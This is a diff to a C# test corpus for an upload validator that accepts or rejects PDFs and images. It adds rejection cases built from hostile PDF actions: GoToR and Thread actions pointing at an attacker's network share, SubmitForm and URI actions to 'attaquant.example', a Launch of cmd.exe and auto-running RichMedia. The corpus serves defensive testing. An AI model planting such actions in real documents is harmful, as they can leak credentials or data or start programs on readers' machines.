@@ -24,6 +24,7 @@ internal static class Corpus
     private const string TypeRefuse = "piece-type-refuse";
     private const string Illisible = "piece-illisible";
     private const string Programme = "piece-avec-programme";
+    private const string Action = "piece-avec-action";
     private const string AutreFichier = "piece-avec-autre-fichier";
     private const string Chiffree = "piece-chiffree";
     private const string TropGrande = "image-trop-grande";
@@ -55,6 +56,32 @@ internal static class Corpus
             new PdfDeTest().AjouterObjets(4, (5, "<< /Type /Font >>"), (6, "[1 2 3]")).Ecrire((5, 4, 0), (6, 4, 1))
         );
         yield return Bon("PDF without a table", new PdfDeTest { AvecTable = false }.Ecrire());
+        yield return Bon("PDF protected for its owner", PdfDeTest.Chiffre());
+        yield return Bon("PDF protected for its owner, RC4 of 128 bits", PdfDeTest.Chiffre(PdfDeTest.Protection.Rc4De128));
+        yield return Bon("PDF protected for its owner, AES of 128 bits", PdfDeTest.Chiffre(PdfDeTest.Protection.AesDe128));
+        yield return Bon("PDF protected for its owner, AES of 256 bits", PdfDeTest.Chiffre(PdfDeTest.Protection.AesDe256));
+        yield return Bon("PDF behind a line feed", [(byte)'\n', .. UnPdf]);
+        yield return Bon("PDF behind the mark of UTF-8 and blanks", [0xEF, 0xBB, 0xBF, .. "\r\n \t"u8, .. UnPdf]);
+        yield return Bon(
+            "PDF with a plain form",
+            new PdfDeTest { Catalogue = "/AcroForm << /Fields [4 0 R] /NeedAppearances true >>" }
+                .Ajouter(
+                    (
+                        4,
+                        "<< /FT /Tx /T (nom) /Type /Annot /Subtype /Widget /Rect [0 0 9 9] /A << /S /SubmitForm /F (https://x.example) >> >>"
+                    )
+                )
+                .Ecrire()
+        );
+        foreach (
+            var vue in new[]
+            {
+                "[3 0 R /Fit]",
+                "<< /S /GoTo /D [3 0 R /XYZ 0 0 1] >>",
+                "<< /S /Named /N /LastPage /Next << /S /GoTo /D [3 0 R /Fit] >> >>",
+            }
+        )
+            yield return Bon($"PDF that opens at {vue}", new PdfDeTest { Catalogue = $"/OpenAction {vue}" }.Ecrire());
         yield return Bon("PDF with blanks behind its end", [.. UnPdf, .. new byte[500]]);
         yield return Bon("PDF of exactly 5 MiB", PdfDe(5 * 1024 * 1024));
 
@@ -75,6 +102,12 @@ internal static class Corpus
         );
         yield return new("JPEG with a colour profile", "photo.jpg", Jpeg, ImageDeTest.JpegAvec(ImageDeTest.Segment(0xE2, Icc())));
         yield return new("JPEG and a phone's film behind it", "photo.jpg", Jpeg, [.. jpeg, 0, 0, 0, 24, .. "ftypmp42"u8, .. new byte[400]]);
+        yield return new("JPEG without its end", "photo.jpg", Jpeg, jpeg[..^2]);
+        yield return new("JPEG in grey without its end", "photo.jpg", Jpeg, ImageDeTest.JpegSimple(1)[..^2]);
+        yield return new("JPEG in CMYK", "photo.jpg", Jpeg, ImageDeTest.JpegSimple(4));
+        yield return new("JPEG in CMYK without its end", "photo.jpg", Jpeg, ImageDeTest.JpegSimple(4)[..^2]);
+        yield return new("JPEG, progressive", "photo.jpg", Jpeg, ImageDeTest.JpegSimple(3, progressif: true));
+        yield return new("JPEG of a phone, 12 megapixels and a preview of a megabyte", "photo.jpg", Jpeg, ImageDeTest.JpegDeTelephone());
         yield return new("JPEG padded with zeros", "photo.jpg", Jpeg, [.. jpeg, .. new byte[1_000]]);
         yield return new("PNG", "scan.png", Png, ImageDeTest.Png());
         yield return new("PNG with texts", "scan.png", Png, ImageDeTest.PngAvec(ImageDeTest.Bloc("tEXt", [.. "Author\0Inès"u8])));
@@ -95,6 +128,9 @@ internal static class Corpus
         yield return new("other type announced", "CV.pdf", Jpeg, UnPdf, 415, Discordant);
         yield return new("page named PDF", "CV.pdf", Pdf, [.. "<!DOCTYPE html><script>alert(1)</script>"u8], 415, Discordant);
         yield return new("PDF behind something else", "CV.pdf", Pdf, [.. "#!/bin/sh\n"u8, .. UnPdf], 415, Discordant);
+        yield return new("PDF behind a page", "CV.pdf", Pdf, [.. "\n<html>\n"u8, .. UnPdf], 415, Discordant);
+        yield return new("PDF behind an archive", "CV.pdf", Pdf, [.. Archive(), .. UnPdf], 415, Discordant);
+        yield return new("PDF behind a kilobyte of blanks", "CV.pdf", Pdf, [.. new byte[1_024], .. UnPdf], 415, Discordant);
         yield return new("picture behind a PDF's name", "CV.pdf", Pdf, ImageDeTest.Jpeg(), 415, Discordant);
         yield return new("PNG named JPEG", "photo.jpg", Jpeg, ImageDeTest.Png(), 415, Discordant);
         yield return new("JPEG named PNG", "photo.png", Png, ImageDeTest.Jpeg(), 415, Discordant);
@@ -112,6 +148,7 @@ internal static class Corpus
     private static IEnumerable<FichierDuCorpus> MauvaisesImages()
     {
         var (jpeg, png) = (ImageDeTest.Jpeg(), ImageDeTest.Png());
+        yield return Refusee("JPEG cut off near its end", jpeg[..^40], Illisible);
         yield return Refusee("JPEG cut off", jpeg[..(jpeg.Length / 2)], Illisible);
         yield return Refusee("JPEG of its first bytes", jpeg[..20], Illisible);
         yield return Refusee("JPEG of noise", [0xFF, 0xD8, 0xFF, .. Enumerable.Repeat((byte)0x42, 500)], Illisible);
@@ -208,6 +245,38 @@ internal static class Corpus
             new PdfDeTest { Catalogue = "/OpenAction << /S /Launch /F (cmd.exe) >>" }.Ecrire(),
             Programme
         );
+        foreach (
+            var action in new[]
+            {
+                @"<< /S /GoToR /F (\\\\attaquant\\partage\\x.pdf) /D [0 /Fit] >>",
+                @"<< /S /Thread /F (\\\\attaquant\\partage\\x.pdf) /D 0 >>",
+                "<< /S /GoToE /T << /R /C /N (x) >> /D [0 /Fit] >>",
+                "<< /S /ImportData /F (x.fdf) >>",
+                "<< /S /SubmitForm /F (https://attaquant.example) >>",
+                "<< /S /URI /URI (https://attaquant.example) >>",
+                "<< /S /Named /N /Print >>",
+                "<< /S /GoTo /D [3 0 R /Fit] /Next [<< /S /GoTo /D [3 0 R /Fit] >> << /S /URI /URI (x) >>] >>",
+                "<< /S /Inconnue >>",
+                "<< /D [3 0 R /Fit] >>",
+            }
+        )
+        {
+            yield return Refuse($"PDF that opens with {action}", new PdfDeTest { Catalogue = $"/OpenAction {action}" }.Ecrire(), Action);
+            yield return Refuse(
+                $"PDF whose page opens with {action}",
+                PdfDeTest
+                    .Avec((3, $"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /AA 5 0 R >>"), (5, "<< /O 6 0 R >>"), (6, action))
+                    .Ecrire(),
+                Action
+            );
+        }
+
+        yield return Refuse(
+            "PDF that runs a film by itself",
+            new PdfDeTest { Catalogue = "/X << /S /RichMediaExecute /CMD << >> >>" }.Ecrire(),
+            Programme
+        );
+        yield return Refuse("PDF with a 3D annotation", PdfDeTest.Avec((4, "<< /Type /Annot /Subtype /3D >>")).Ecrire(), Programme);
         yield return Refuse("PDF with a film", PdfDeTest.Avec((4, "<< /Type /Annot /Subtype /RichMedia >>")).Ecrire(), Programme);
         yield return Refuse(
             "PDF with a living form",
@@ -239,7 +308,6 @@ internal static class Corpus
 
     private static IEnumerable<FichierDuCorpus> MauvaisPdf()
     {
-        yield return Refuse("PDF protected for its owner", PdfDeTest.Chiffre(), Chiffree);
         yield return Refuse(
             "PDF with a password",
             new PdfDeTest
